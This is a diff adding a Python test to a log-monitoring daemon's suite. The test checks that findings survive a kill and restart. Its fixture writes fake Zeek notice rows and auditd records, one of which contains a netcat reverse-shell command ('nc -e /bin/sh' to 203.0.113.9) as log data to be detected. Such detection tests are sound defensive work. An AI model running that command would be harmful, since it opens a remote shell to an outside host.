@@ -291,6 +291,37 @@ def test_kill_loses_and_doubles_nothing():
     p.end()
 
 
+def test_what_lines_carry_over_is_known_after_a_kill():
+    """The names of the columns of a TSV file, and the first lines of a record of several."""
+    p = Place()
+    now = time.time()
+
+    def write(name, text):
+        with open(os.path.join(p.logs, name), "a") as f:
+            f.write(text)
+
+    def row(i):
+        return "%.6f\tC%d\t10.0.0.%d\t203.0.113.9\tIntel::Notice\tIntel hit on evil%d.example.com\tNotice::ACTION_LOG\n" % (now + i, i, i + 1, i)
+    audit = "node=%s type=%%s msg=audit(%.3f:77): %%s\n" % (HOSTS[2], now)
+    p.start()
+    write("notice.log", "#separator \\x09\n#path\tnotice\n#fields\tts\tuid\tid.orig_h\tid.resp_h\tnote\tmsg\tactions\n" + row(0))
+    checks.that(p.wait_for(1, 10), "a row of a TSV file is an incident: %s\n%s" % (p.incidents(), p.errors()))
+    write("audit.log", audit % ("SYSCALL", 'pid=7 exe="/usr/bin/nc"') + audit % ("EXECVE", 'argc=4 a0="nc" a1="-e" a2="/bin/sh" a3="203.0.113.9"'))
+    time.sleep(0.5)
+    p.process.kill()
+    p.process.wait()
+    write("audit.log", audit % ("CWD", 'cwd="/root"') + audit % ("PROCTITLE", "proctitle=6E63"))
+    write("notice.log", row(1))
+    p.start()
+    checks.that(p.findings(3) == 3 and len(p.incidents()) == 3, "the row and the record that went on are one finding each: %s\n%s" %
+                (p.incidents(), p.errors()))
+    files = [os.path.join(p.logs, "audit.log")]
+    old = [o["line"] for o in replay(*files)[0] if o.get("kind") == "finding"]
+    checks.that(old == [1], "the record has the number of its first line: %s" % old)
+    p.stop()
+    p.end()
+
+
 def test_a_copy_of_the_state_at_any_moment_goes_on():
     """As after a loss of power: the folder as it stood while the daemon wrote, with whatever was under way."""
     p = Place()
@@ -424,6 +455,7 @@ test_silence_and_gaps_are_told_and_shown()
 test_pipes_and_sockets_are_read()
 test_a_year_of_logs_is_one_summary()
 test_kill_loses_and_doubles_nothing()
+test_what_lines_carry_over_is_known_after_a_kill()
 test_a_copy_of_the_state_at_any_moment_goes_on()
 test_live_equals_replay_in_two_interleavings()
 test_a_fold_says_what_is_a_drill()
